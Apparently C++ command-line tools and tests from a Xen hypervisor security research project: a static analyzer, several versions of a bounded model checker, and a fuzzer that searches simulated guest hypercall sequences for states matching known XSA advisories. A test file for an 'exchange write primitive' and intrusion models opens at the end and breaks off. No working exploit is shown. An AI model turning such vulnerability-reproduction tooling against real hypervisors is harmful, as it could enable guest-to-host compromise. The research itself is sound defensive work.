// ii_analyze — token-level static analyzer for the repo's own invariants
// (DESIGN.md §15). Successor to the retired grep-based tools/ii-lint:
// comments and string literals are stripped by a real lexer, rules match
// across lines, registry tables are parsed rather than pattern-matched,
// and policy (who may write frame state, which TUs must stay
// deterministic) lives in a checked-in file.
//
// Usage:
//   ii_analyze [root] [--format=text|json] [--out FILE] [--policy FILE]
//              [--rule NAME]... [--list-rules]
//
// Exit codes: 0 clean, 1 findings, 2 usage or I/O error.
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <vector>

#include "lint/analyzer.hpp"

namespace {

int usage() {
  std::cerr
      << "usage: ii_analyze [root] [--format=text|json] [--out FILE]\n"
         "                  [--policy FILE] [--rule NAME]... [--list-rules]\n";
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  std::string root = ".";
  std::string format = "text";
  std::string out_path;
  std::string policy_path;
  std::vector<std::string> only_rules;
  bool list_rules = false;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg.rfind("--format=", 0) == 0) {
      format = arg.substr(9);
    } else if (arg == "--format" && i + 1 < argc) {
      format = argv[++i];
    } else if (arg == "--out" && i + 1 < argc) {
      out_path = argv[++i];
    } else if (arg == "--policy" && i + 1 < argc) {
      policy_path = argv[++i];
    } else if (arg == "--rule" && i + 1 < argc) {
      only_rules.emplace_back(argv[++i]);
    } else if (arg == "--list-rules") {
      list_rules = true;
    } else if (!arg.empty() && arg[0] == '-') {
      return usage();
    } else {
      root = arg;
    }
  }
  if (format != "text" && format != "json") return usage();

  if (list_rules) {
    for (const ii::lint::CheckEntry& check : ii::lint::check_registry()) {
      std::cout << check.name << "\n    " << check.what << '\n';
    }
    return 0;
  }

  // Policy: explicit flag, else the checked-in tools/ii_analyze.policy,
  // else the built-in mirror of it.
  ii::lint::Policy policy;
  if (policy_path.empty()) policy_path = root + "/tools/ii_analyze.policy";
  if (std::ifstream in{policy_path}; in) {
    std::ostringstream buf;
    buf << in.rdbuf();
    policy = ii::lint::Policy::parse(buf.str());
  } else {
    policy = ii::lint::Policy::builtin();
  }

  const ii::lint::SourceModel model = ii::lint::SourceModel::load_tree(root);
  if (model.files().empty()) {
    std::cerr << "ii_analyze: no sources under " << root << "/src\n";
    return 2;
  }
  const ii::lint::AnalysisResult result =
      ii::lint::analyze(model, policy, only_rules);

  const std::string rendered = format == "json"
                                   ? ii::lint::render_json(result)
                                   : ii::lint::render_text(result);
  if (out_path.empty()) {
    std::cout << rendered;
  } else {
    std::ofstream out{out_path, std::ios::binary};
    if (!out) {
      std::cerr << "ii_analyze: cannot write " << out_path << '\n';
      return 2;
    }
    out << rendered;
    // Keep the human a one-line verdict even when JSON goes to a file.
    std::cerr << (result.findings.empty() ? "ii-analyze: OK ("
                                          : "ii-analyze: FAILED (")
              << result.findings.size() << " findings, "
              << result.files_scanned << " files)\n";
  }
  return result.findings.empty() ? 0 : 1;
}
