// Bounded model checker front end.
//
// Usage:
//   analysis_cli [--version 4.6|4.8|4.13] [--depth N] [--domains N]
//                [--domain-pages N] [--machine-frames N] [--grants]
//                [--max-states N] [--max-counterexamples N] [--threads N]
//                [--max-frontier-mb N] [--spill-dir DIR]
//                [--expect vulnerable|clean] [--allow-truncated]
//                [--stats] [--quiet]
//                [--profile] [--profile-wall] [--metrics-out FILE]
//                [--trace-out FILE] [--chrome-trace FILE] [--status-port N]
//
// Explores every guest-issuable operation sequence up to --depth against
// the selected version policy and prints which of the paper's erroneous
// states are reachable, with a minimal counterexample trace for each
// violating state. --threads partitions dedup admission over hash-owned
// shards (default: hardware concurrency); the report is byte-identical at
// any count. --max-frontier-mb bounds the resident frontier (deterministic
// accounting); with --spill-dir set, states past the budget spill to
// <dir>/frontier.spill and replay back in — reports stay byte-identical
// with or without spilling, which is what makes depth-4 runs fit in RAM.
//
// --expect turns the run into a CI gate:
//   --expect vulnerable  exit 0 iff at least one XSA class was reached
//   --expect clean       exit 0 iff no invariant violation exists at all
//                        AND the space was fully covered (a run truncated
//                        at --max-states fails unless --allow-truncated)
//
// Telemetry:
//   --profile       print the deterministic span profile (per-depth
//                   expand/audit work; byte-identical at any --threads)
//   --profile-wall  print the full profile with wall time and the
//                   scheduling-dependent produce/admit/settle/spill spans
//   --metrics-out   append one {"type":"metrics"} JSONL record of the
//                   checker counters
//   --trace-out     append {"type":"span"} JSONL records (tree + wall)
//   --chrome-trace  write a Chrome trace-event JSON (chrome://tracing)
//   --status-port   serve /status and /metrics over TCP while running
//                   (port 0 picks an ephemeral port, printed to stderr)
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <exception>
#include <fstream>
#include <memory>
#include <string>

#include "analysis/model_checker.hpp"
#include "net/status_server.hpp"
#include "obs/jsonl.hpp"
#include "obs/span.hpp"
#include "obs/status.hpp"

namespace {

int usage() {
  std::puts(
      "usage: analysis_cli [--version 4.6|4.8|4.13] [--depth N] "
      "[--domains N]\n"
      "                    [--domain-pages N] [--machine-frames N] "
      "[--grants]\n"
      "                    [--max-states N] [--max-counterexamples N] "
      "[--threads N]\n"
      "                    [--max-frontier-mb N] [--spill-dir DIR]\n"
      "                    [--expect vulnerable|clean] [--allow-truncated]\n"
      "                    [--stats] [--quiet]\n"
      "                    [--profile] [--profile-wall] [--metrics-out FILE]\n"
      "                    [--trace-out FILE] [--chrome-trace FILE]\n"
      "                    [--status-port N]");
  return 2;
}

bool parse_unsigned(const char* s, std::uint64_t* out) {
  char* end = nullptr;
  const unsigned long long v = std::strtoull(s, &end, 10);
  if (end == s || *end != '\0') return false;
  *out = v;
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace ii;

  analysis::ModelCheckConfig config;
  config.threads = 0;  // hardware concurrency unless --threads says otherwise
  std::string expect;
  bool quiet = false;
  bool allow_truncated = false;
  bool show_stats = false;
  bool machine_frames_set = false;
  bool show_profile = false;
  bool show_profile_wall = false;
  std::string metrics_out;
  std::string trace_out;
  std::string chrome_trace;
  bool status_port_set = false;
  std::uint64_t status_port = 0;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    std::uint64_t n = 0;
    if (arg == "--version") {
      const char* v = next();
      if (v == nullptr) return usage();
      if (std::strcmp(v, "4.6") == 0) {
        config.version = hv::kXen46;
      } else if (std::strcmp(v, "4.8") == 0) {
        config.version = hv::kXen48;
      } else if (std::strcmp(v, "4.13") == 0) {
        config.version = hv::kXen413;
      } else {
        return usage();
      }
    } else if (arg == "--depth") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.depth = static_cast<unsigned>(n);
    } else if (arg == "--domains") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.guest_domains = static_cast<unsigned>(n);
    } else if (arg == "--domain-pages") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.domain_pages = n;
    } else if (arg == "--machine-frames") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.machine_frames = n;
      machine_frames_set = true;
    } else if (arg == "--threads") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.threads = static_cast<unsigned>(n);
    } else if (arg == "--max-states") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.max_states = n;
    } else if (arg == "--max-counterexamples") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.max_counterexamples = n;
    } else if (arg == "--max-frontier-mb") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.max_frontier_bytes = n * 1024 * 1024;
    } else if (arg == "--spill-dir") {
      const char* v = next();
      if (v == nullptr) return usage();
      config.spill_dir = v;
    } else if (arg == "--grants") {
      config.include_grant_ops = true;
    } else if (arg == "--expect") {
      const char* v = next();
      if (v == nullptr) return usage();
      expect = v;
      if (expect != "vulnerable" && expect != "clean") return usage();
    } else if (arg == "--allow-truncated") {
      allow_truncated = true;
    } else if (arg == "--stats") {
      show_stats = true;
    } else if (arg == "--quiet") {
      quiet = true;
    } else if (arg == "--profile") {
      show_profile = true;
    } else if (arg == "--profile-wall") {
      show_profile_wall = true;
    } else if (arg == "--metrics-out") {
      const char* v = next();
      if (v == nullptr) return usage();
      metrics_out = v;
    } else if (arg == "--trace-out") {
      const char* v = next();
      if (v == nullptr) return usage();
      trace_out = v;
    } else if (arg == "--chrome-trace") {
      const char* v = next();
      if (v == nullptr) return usage();
      chrome_trace = v;
    } else if (arg == "--status-port") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n > 65535) return usage();
      status_port = n;
      status_port_set = true;
    } else {
      return usage();
    }
  }

  // Size the machine to the requested domains unless the user pinned it:
  // the 64-frame default fits xen + dom0 + one guest + exchange slack, and
  // a second guest would otherwise fail domain construction outright.
  if (!machine_frames_set) {
    const std::uint64_t need = 16 /*xen*/ + config.dom0_pages +
                               config.guest_domains * config.domain_pages +
                               16 /*exchange slack*/;
    if (need > config.machine_frames) config.machine_frames = need;
  }

  const bool want_profile = show_profile || show_profile_wall ||
                            !trace_out.empty() || !chrome_trace.empty();
  obs::SpanProfiler profiler;
  obs::StatusBoard board;
  if (want_profile) {
    profiler.set_record_events(!chrome_trace.empty());
    config.profiler = &profiler;
  }

  std::unique_ptr<net::TcpStatusServer> server;
  if (status_port_set) {
    config.status = &board;
    server = std::make_unique<net::TcpStatusServer>(
        static_cast<std::uint16_t>(status_port), &board,
        net::MetricsProvider{});
    if (!server->running()) {
      std::fprintf(stderr, "analysis_cli: cannot listen on port %llu\n",
                   static_cast<unsigned long long>(status_port));
      return 4;
    }
    std::fprintf(stderr, "analysis_cli: status server on port %u\n",
                 server->port());
  }

  analysis::ModelCheckResult result;
  try {
    result = analysis::run_model_check(config);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "analysis_cli: error: %s\n", e.what());
    return 4;
  }
  if (!quiet) {
    std::fputs(analysis::render_report(result).c_str(), stdout);
  }
  if (show_stats) {
    // Scheduling-dependent counters, kept off the default output so runs at
    // different --threads stay byte-identical.
    std::fputs(analysis::render_engine_stats(result).c_str(), stdout);
  }
  if (show_profile) {
    // Deterministic render only: safe next to render_report in cmp gates.
    std::fputs(obs::render_profile(profiler, false).c_str(), stdout);
  }
  if (show_profile_wall) {
    std::fputs(obs::render_profile(profiler, true).c_str(), stdout);
  }

  if (!metrics_out.empty()) {
    obs::JsonlWriter writer{metrics_out};
    if (!writer.ok()) {
      std::fprintf(stderr, "analysis_cli: cannot write %s\n",
                   metrics_out.c_str());
      return 4;
    }
    obs::MetricsSnapshot snapshot;
    snapshot.counters["check.states_explored"] = result.states_explored;
    snapshot.counters["check.ops_applied"] = result.ops_applied;
    snapshot.counters["check.states_deduped"] = result.states_deduped;
    snapshot.counters["check.failed_ops"] = result.failed_ops;
    snapshot.counters["check.violations_found"] = result.violations_found;
    snapshot.counters["check.truncated"] = result.truncated ? 1 : 0;
    snapshot.counters["snapshot.frames_copied"] = result.snapshot_frames_copied;
    snapshot.counters["hash.frames_rehashed"] = result.hash_frames_rehashed;
    snapshot.counters["checker.ops_executed"] = result.ops_executed;
    snapshot.counters["checker.peak_frontier_bytes"] =
        result.peak_frontier_bytes;
    snapshot.counters["checker.spilled_items"] = result.frontier_spilled_items;
    snapshot.counters["checker.spill_reloads"] = result.frontier_spill_reloads;
    snapshot.counters["checker.spill_bytes"] = result.frontier_spill_bytes;
    snapshot.counters["checker.cow_captures"] = result.cow_captures;
    snapshot.counters["checker.cow_frames_owned"] = result.cow_frames_copied;
    snapshot.counters["checker.cow_frames_shared"] = result.cow_frames_shared;
    for (std::size_t s = 0; s < result.shard_occupancy.size(); ++s) {
      snapshot.counters["checker.shard." + std::to_string(s) + ".visited"] =
          result.shard_occupancy[s];
    }
    writer.metrics(snapshot);
  }
  if (!trace_out.empty()) {
    obs::JsonlWriter writer{trace_out};
    if (!writer.ok()) {
      std::fprintf(stderr, "analysis_cli: cannot write %s\n",
                   trace_out.c_str());
      return 4;
    }
    writer.spans(profiler);
  }
  if (!chrome_trace.empty()) {
    std::ofstream os{chrome_trace, std::ios::trunc};
    os << obs::chrome_trace_json(profiler) << '\n';
    if (!os) {
      std::fprintf(stderr, "analysis_cli: cannot write %s\n",
                   chrome_trace.c_str());
      return 4;
    }
  }

  if (!expect.empty()) {
    const analysis::GateVerdict verdict =
        analysis::evaluate_expectation(result, expect, allow_truncated);
    std::fprintf(verdict.pass ? stdout : stderr, "%s\n",
                 verdict.message.c_str());
    return verdict.pass ? 0 : 1;
  }
  return result.clean() ? 0 : 3;
}
