// Bounded model checker front end.
//
// Usage:
//   analysis_cli [--version 4.6|4.8|4.13] [--depth N] [--domains N]
//                [--domain-pages N] [--machine-frames N] [--grants]
//                [--max-states N] [--max-counterexamples N] [--threads N]
//                [--expect vulnerable|clean] [--allow-truncated]
//                [--stats] [--quiet]
//
// Explores every guest-issuable operation sequence up to --depth against
// the selected version policy and prints which of the paper's erroneous
// states are reachable, with a minimal counterexample trace for each
// violating state. --threads shards the frontier over N workers (default:
// hardware concurrency); the report is byte-identical at any count.
//
// --expect turns the run into a CI gate:
//   --expect vulnerable  exit 0 iff at least one XSA class was reached
//   --expect clean       exit 0 iff no invariant violation exists at all
//                        AND the space was fully covered (a run truncated
//                        at --max-states fails unless --allow-truncated)
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <exception>
#include <string>

#include "analysis/model_checker.hpp"

namespace {

int usage() {
  std::puts(
      "usage: analysis_cli [--version 4.6|4.8|4.13] [--depth N] "
      "[--domains N]\n"
      "                    [--domain-pages N] [--machine-frames N] "
      "[--grants]\n"
      "                    [--max-states N] [--max-counterexamples N] "
      "[--threads N]\n"
      "                    [--expect vulnerable|clean] [--allow-truncated]\n"
      "                    [--stats] [--quiet]");
  return 2;
}

bool parse_unsigned(const char* s, std::uint64_t* out) {
  char* end = nullptr;
  const unsigned long long v = std::strtoull(s, &end, 10);
  if (end == s || *end != '\0') return false;
  *out = v;
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace ii;

  analysis::ModelCheckConfig config;
  config.threads = 0;  // hardware concurrency unless --threads says otherwise
  std::string expect;
  bool quiet = false;
  bool allow_truncated = false;
  bool show_stats = false;
  bool machine_frames_set = false;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    std::uint64_t n = 0;
    if (arg == "--version") {
      const char* v = next();
      if (v == nullptr) return usage();
      if (std::strcmp(v, "4.6") == 0) {
        config.version = hv::kXen46;
      } else if (std::strcmp(v, "4.8") == 0) {
        config.version = hv::kXen48;
      } else if (std::strcmp(v, "4.13") == 0) {
        config.version = hv::kXen413;
      } else {
        return usage();
      }
    } else if (arg == "--depth") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.depth = static_cast<unsigned>(n);
    } else if (arg == "--domains") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.guest_domains = static_cast<unsigned>(n);
    } else if (arg == "--domain-pages") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.domain_pages = n;
    } else if (arg == "--machine-frames") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.machine_frames = n;
      machine_frames_set = true;
    } else if (arg == "--threads") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.threads = static_cast<unsigned>(n);
    } else if (arg == "--max-states") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.max_states = n;
    } else if (arg == "--max-counterexamples") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.max_counterexamples = n;
    } else if (arg == "--grants") {
      config.include_grant_ops = true;
    } else if (arg == "--expect") {
      const char* v = next();
      if (v == nullptr) return usage();
      expect = v;
      if (expect != "vulnerable" && expect != "clean") return usage();
    } else if (arg == "--allow-truncated") {
      allow_truncated = true;
    } else if (arg == "--stats") {
      show_stats = true;
    } else if (arg == "--quiet") {
      quiet = true;
    } else {
      return usage();
    }
  }

  // Size the machine to the requested domains unless the user pinned it:
  // the 64-frame default fits xen + dom0 + one guest + exchange slack, and
  // a second guest would otherwise fail domain construction outright.
  if (!machine_frames_set) {
    const std::uint64_t need = 16 /*xen*/ + config.dom0_pages +
                               config.guest_domains * config.domain_pages +
                               16 /*exchange slack*/;
    if (need > config.machine_frames) config.machine_frames = need;
  }

  analysis::ModelCheckResult result;
  try {
    result = analysis::run_model_check(config);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "analysis_cli: error: %s\n", e.what());
    return 4;
  }
  if (!quiet) {
    std::fputs(analysis::render_report(result).c_str(), stdout);
  }
  if (show_stats) {
    // Scheduling-dependent counters, kept off the default output so runs at
    // different --threads stay byte-identical.
    std::fputs(analysis::render_engine_stats(result).c_str(), stdout);
  }

  if (!expect.empty()) {
    const analysis::GateVerdict verdict =
        analysis::evaluate_expectation(result, expect, allow_truncated);
    std::fprintf(verdict.pass ? stdout : stderr, "%s\n",
                 verdict.message.c_str());
    return verdict.pass ? 0 : 1;
  }
  return result.clean() ? 0 : 3;
}
