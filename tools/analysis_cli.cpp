// Bounded model checker front end.
//
// Usage:
//   analysis_cli [--version 4.6|4.8|4.13] [--depth N] [--domains N]
//                [--domain-pages N] [--machine-frames N] [--grants]
//                [--max-states N] [--max-counterexamples N]
//                [--expect vulnerable|clean] [--quiet]
//
// Explores every guest-issuable operation sequence up to --depth against
// the selected version policy and prints which of the paper's erroneous
// states are reachable, with a minimal counterexample trace for each
// violating state.
//
// --expect turns the run into a CI gate:
//   --expect vulnerable  exit 0 iff at least one XSA class was reached
//   --expect clean       exit 0 iff no invariant violation exists at all
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "analysis/model_checker.hpp"

namespace {

int usage() {
  std::puts(
      "usage: analysis_cli [--version 4.6|4.8|4.13] [--depth N] "
      "[--domains N]\n"
      "                    [--domain-pages N] [--machine-frames N] "
      "[--grants]\n"
      "                    [--max-states N] [--max-counterexamples N]\n"
      "                    [--expect vulnerable|clean] [--quiet]");
  return 2;
}

bool parse_unsigned(const char* s, std::uint64_t* out) {
  char* end = nullptr;
  const unsigned long long v = std::strtoull(s, &end, 10);
  if (end == s || *end != '\0') return false;
  *out = v;
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace ii;

  analysis::ModelCheckConfig config;
  std::string expect;
  bool quiet = false;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    std::uint64_t n = 0;
    if (arg == "--version") {
      const char* v = next();
      if (v == nullptr) return usage();
      if (std::strcmp(v, "4.6") == 0) {
        config.version = hv::kXen46;
      } else if (std::strcmp(v, "4.8") == 0) {
        config.version = hv::kXen48;
      } else if (std::strcmp(v, "4.13") == 0) {
        config.version = hv::kXen413;
      } else {
        return usage();
      }
    } else if (arg == "--depth") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.depth = static_cast<unsigned>(n);
    } else if (arg == "--domains") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.guest_domains = static_cast<unsigned>(n);
    } else if (arg == "--domain-pages") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.domain_pages = n;
    } else if (arg == "--machine-frames") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.machine_frames = n;
    } else if (arg == "--max-states") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.max_states = n;
    } else if (arg == "--max-counterexamples") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.max_counterexamples = n;
    } else if (arg == "--grants") {
      config.include_grant_ops = true;
    } else if (arg == "--expect") {
      const char* v = next();
      if (v == nullptr) return usage();
      expect = v;
      if (expect != "vulnerable" && expect != "clean") return usage();
    } else if (arg == "--quiet") {
      quiet = true;
    } else {
      return usage();
    }
  }

  const analysis::ModelCheckResult result = analysis::run_model_check(config);
  if (!quiet) {
    std::fputs(analysis::render_report(result).c_str(), stdout);
  }

  if (expect == "clean") {
    if (!result.clean()) {
      std::fprintf(stderr,
                   "FAIL: expected clean, found %llu violating state(s)\n",
                   static_cast<unsigned long long>(result.violations_found));
      return 1;
    }
    std::printf("OK: no invariant violation in the bounded space (xen %s)\n",
                config.version.to_string().c_str());
    return 0;
  }
  if (expect == "vulnerable") {
    bool any_xsa = false;
    for (std::size_t c = 0; c + 1 < analysis::kErroneousStateClassCount; ++c) {
      any_xsa |= result.reached(static_cast<analysis::ErroneousStateClass>(c));
    }
    if (!any_xsa) {
      std::fprintf(stderr, "FAIL: expected an XSA erroneous state, none reached\n");
      return 1;
    }
    std::printf("OK: XSA erroneous state(s) reachable (xen %s)\n",
                config.version.to_string().c_str());
    return 0;
  }
  return result.clean() ? 0 : 3;
}
