// fuzz_cli: the coverage-guided hypercall-sequence fuzzer, on the command
// line (paper §IV-C's randomized erroneous-state generation, grown into a
// feedback loop — DESIGN.md §17).
//
//   fuzz_cli --version 4.6 --seed 7 --iterations 500 --corpus-dir corpus/
//
// runs the guided fuzzer, prints the deterministic stats render (safe to
// cmp across runs at the same seed), ties every surviving erroneous state
// back to the §IV-D advisory taxonomy, and persists survivors + corpus as
// replayable trace files. Other modes:
//
//   --blind         disable the corpus/scheduler feedback (same iteration
//                   budget, fresh random trace every time) — the baseline
//                   the guided mode is benchmarked against
//   --replay FILE   re-execute a recorded trace file and verify it
//                   reproduces the recorded outcome/classes/state hash
//                   (exit 1 on divergence)
//   --no-minimize   keep survivors at their raw trace length
//   --coverage      dump the covered (context x frame type x branch) triples
//   --expect-novel  exit 1 unless at least one survivor is NOT covered by
//                   the paper's four XSA scenarios (the CI acceptance gate)
//
// --metrics-out appends one {"type":"metrics"} JSONL record; wall time
// rides along in the JSONL envelope, so cmp-gate stdout and the corpus
// bytes, never the metrics file.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <exception>
#include <string>

#include "core/fuzz.hpp"
#include "cvedb/advisories.hpp"
#include "obs/jsonl.hpp"
#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace {

int usage() {
  std::puts(
      "usage: fuzz_cli [--version 4.6|4.8|4.13] [--seed N] [--iterations N]\n"
      "                [--corpus-dir DIR] [--replay FILE] [--blind]\n"
      "                [--minimize] [--no-minimize] [--max-ops N]\n"
      "                [--machine-frames N] [--guest-pages N]\n"
      "                [--coverage] [--expect-novel] [--quiet]\n"
      "                [--profile] [--metrics-out FILE]");
  return 2;
}

bool parse_unsigned(const char* s, std::uint64_t* out) {
  char* end = nullptr;
  const unsigned long long v = std::strtoull(s, &end, 10);
  if (end == s || *end != '\0') return false;
  *out = v;
  return true;
}

/// One line per survivor tying its classes to the §IV-D study records.
void print_taxonomy(const ii::core::SeqFuzzStats& stats) {
  using ii::analysis::ErroneousStateClass;
  if (stats.survivors.empty()) return;
  std::puts("taxonomy:");
  for (std::size_t i = 0; i < stats.survivors.size(); ++i) {
    const ii::core::Survivor& s = stats.survivors[i];
    if (s.entry.classes.empty()) {
      std::printf("  #%zu: no classifiable post-state (%s) -- "
                  "not covered by the XSA scenarios\n",
                  i, ii::core::to_string(s.entry.outcome).c_str());
      continue;
    }
    for (const ErroneousStateClass c : s.entry.classes) {
      const ii::cvedb::AdvisoryRecord* rec = ii::cvedb::advisory_for_class(c);
      if (rec != nullptr) {
        std::printf("  #%zu: %s -> %s (%s): %s\n", i,
                    ii::analysis::to_string(c).c_str(), rec->xsa_id.c_str(),
                    rec->cve_id.c_str(), rec->summary.c_str());
      } else {
        std::printf("  #%zu: %s -> no covering advisory in the study "
                    "(candidate new intrusion model)\n",
                    i, ii::analysis::to_string(c).c_str());
      }
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  using namespace ii;

  core::SeqFuzzConfig config;
  // Small machine by default: the fuzzer reboots nothing (delta rewinds),
  // but every iteration walks the tables, so a 128 MiB machine would spend
  // the budget in the auditor instead of the validation engine.
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  std::string replay_file;
  std::string metrics_out;
  bool show_coverage = false;
  bool expect_novel = false;
  bool quiet = false;
  bool show_profile = false;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    std::uint64_t n = 0;
    if (arg == "--version") {
      const char* v = next();
      if (v == nullptr) return usage();
      if (std::strcmp(v, "4.6") == 0) {
        config.version = hv::kXen46;
      } else if (std::strcmp(v, "4.8") == 0) {
        config.version = hv::kXen48;
      } else if (std::strcmp(v, "4.13") == 0) {
        config.version = hv::kXen413;
      } else {
        return usage();
      }
    } else if (arg == "--seed") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.seed = n;
    } else if (arg == "--iterations") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.iterations = static_cast<unsigned>(n);
    } else if (arg == "--max-ops") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n) || n == 0) return usage();
      config.max_ops = static_cast<unsigned>(n);
    } else if (arg == "--machine-frames") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.platform.machine_frames = n;
    } else if (arg == "--guest-pages") {
      const char* v = next();
      if (v == nullptr || !parse_unsigned(v, &n)) return usage();
      config.platform.guest_pages = n;
    } else if (arg == "--corpus-dir") {
      const char* v = next();
      if (v == nullptr) return usage();
      config.corpus_dir = v;
    } else if (arg == "--replay") {
      const char* v = next();
      if (v == nullptr) return usage();
      replay_file = v;
    } else if (arg == "--blind") {
      config.guided = false;
    } else if (arg == "--minimize") {
      config.minimize = true;
    } else if (arg == "--no-minimize") {
      config.minimize = false;
    } else if (arg == "--coverage") {
      show_coverage = true;
    } else if (arg == "--expect-novel") {
      expect_novel = true;
    } else if (arg == "--quiet") {
      quiet = true;
    } else if (arg == "--profile") {
      show_profile = true;
    } else if (arg == "--metrics-out") {
      const char* v = next();
      if (v == nullptr) return usage();
      metrics_out = v;
    } else {
      return usage();
    }
  }

  obs::SpanProfiler profiler;
  obs::MetricsRegistry metrics;
  config.profiler = &profiler;
  config.metrics = &metrics;

  try {
    if (!replay_file.empty()) {
      // Replay mode: a recorded trace must reproduce its recorded result.
      hv::XenVersion recorded_version = config.version;
      const auto entry = core::load_trace_file(replay_file, &recorded_version);
      if (!entry) {
        std::fprintf(stderr, "fuzz_cli: cannot load %s\n",
                     replay_file.c_str());
        return 4;
      }
      config.version = recorded_version;
      const core::TraceResult result = core::replay_trace(config, entry->ops);
      if (!quiet) {
        std::printf("replay %s: %zu ops on Xen %s\n", replay_file.c_str(),
                    entry->ops.size(), recorded_version.to_string().c_str());
        std::printf("  recorded: %s, hash 0x%llx\n",
                    core::to_string(entry->outcome).c_str(),
                    static_cast<unsigned long long>(entry->state_hash));
        std::printf("  replayed: %s, hash 0x%llx\n",
                    core::to_string(result.outcome).c_str(),
                    static_cast<unsigned long long>(result.state_hash));
      }
      const bool match = result.outcome == entry->outcome &&
                         result.classes == entry->classes &&
                         result.state_hash == entry->state_hash;
      if (!match) std::fprintf(stderr, "fuzz_cli: replay diverged\n");
      return match ? 0 : 1;
    }

    core::CoverageMap coverage;  // only for --coverage; run owns its map
    const core::SeqFuzzStats stats = core::run_sequence_fuzzer(config);
    if (!quiet) {
      std::fputs(stats.render().c_str(), stdout);
      print_taxonomy(stats);
    }
    if (show_coverage) {
      // The run's map is internal; rebuild one from the survivors so the
      // listing shows the triples the interesting traces exercise.
      for (const core::Survivor& s : stats.survivors) {
        (void)core::replay_trace(config, s.entry.ops, &coverage);
      }
      std::fputs(coverage.render().c_str(), stdout);
    }
    if (show_profile) {
      std::fputs(obs::render_profile(profiler, false).c_str(), stdout);
    }
    if (!metrics_out.empty()) {
      obs::JsonlWriter writer{metrics_out};
      if (!writer.ok()) {
        std::fprintf(stderr, "fuzz_cli: cannot write %s\n",
                     metrics_out.c_str());
        return 4;
      }
      writer.metrics(metrics.snapshot());
    }
    if (expect_novel && stats.novel_survivors() == 0) {
      std::fprintf(stderr,
                   "fuzz_cli: expected a survivor outside the four XSA "
                   "scenarios; found none\n");
      return 1;
    }
  } catch (const std::exception& e) {
    std::fprintf(stderr, "fuzz_cli: error: %s\n", e.what());
    return 4;
  }
  return 0;
}
