// Unit-level tests of the use-case building blocks: the exchange write
// primitive, per-case intrusion models, and per-case behaviour details the
// campaign matrix does not pin down.
#include <gtest/gtest.h>

#include <cstring>

#include "core/monitor.hpp"
#include "xsa/exchange_primitive.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {
namespace {

guest::VirtualPlatform make_platform(hv::XenVersion version,
                                     bool injector = true) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.injector_enabled = injector;
  return guest::VirtualPlatform{pc};
}

// ------------------------------------------------------ exchange primitive

TEST(ExchangePrimitive, ReadyAfterSetup) {
  auto p = make_platform(hv::kXen46, false);
  ExchangeWritePrimitive prim{p.guest(0)};
  EXPECT_TRUE(prim.ready());
}

TEST(ExchangePrimitive, RawShotWritesFreshMfn) {
  auto p = make_platform(hv::kXen46, false);
  ExchangeWritePrimitive prim{p.guest(0)};
